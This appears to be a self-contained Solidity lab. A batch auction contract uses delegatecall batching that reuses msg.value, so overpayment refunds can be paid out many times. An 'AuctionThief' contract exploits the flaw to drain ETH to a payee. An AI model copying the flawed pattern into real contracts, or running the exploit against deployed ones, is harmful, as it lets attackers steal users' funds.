// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

/// Runs several of a contract's own functions in one call. Each of them believes that the coins came for it.
abstract contract Batchable {
    function batch(bytes[] calldata calls, bool revertOnFail) external payable {
        for (uint256 i = 0; i < calls.length; i++) {
            (bool ok, bytes memory why) = address(this).delegatecall(calls[i]);
            if (!ok && revertOnFail) assembly { revert(add(why, 32), mload(why)) }
        }
    }
}

/// Sells tokens for coins up to a limit; what is committed beyond it goes back at once.
contract BatchAuction is Batchable {
    address payable public immutable wallet;
    uint256 public immutable limit;
    uint256 public committed;
    bool public finalized;
    mapping(address => uint256) public commitments;
    mapping(address => string) public memo;

    event AddedCommitment(address addr, uint256 commitment);
    event AuctionFinalized(uint256 committed);

    constructor(address payable wallet_, uint256 limit_) {
        (wallet, limit) = (wallet_, limit_);
    }

    function commitEth(address payable beneficiary) external payable {
        require(!finalized, "over");
        uint256 fits = limit - committed < msg.value ? limit - committed : msg.value;
        committed += fits;
        commitments[beneficiary] += fits;
        if (fits > 0) emit AddedCommitment(beneficiary, fits);
        if (msg.value > fits) {
            (bool ok,) = beneficiary.call{value: msg.value - fits}("");
            require(ok, "not refunded");
        }
    }

    function setMemo(string calldata text) external payable {
        memo[msg.sender] = text;
    }

    function finalize() external {
        require(msg.sender == wallet, "not the wallet");
        finalized = true;
        (bool ok,) = wallet.call{value: committed}("");
        require(ok, "not paid");
        emit AuctionFinalized(committed);
    }

    /// What was committed beyond what is here; nothing once it is over.
    function missing() external view returns (uint256) {
        if (finalized) return 0;
        return committed > address(this).balance ? committed - address(this).balance : 0;
    }
}

contract AuctionThief {
    function run(BatchAuction auction, uint256 times, address payable payee) external payable {
        bytes[] memory calls = new bytes[](times);
        for (uint256 i = 0; i < times; i++) {
            calls[i] = abi.encodeCall(BatchAuction.commitEth, (payable(address(this))));
        }
        auction.batch{value: msg.value}(calls, true);
        (bool ok,) = payee.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {}
}
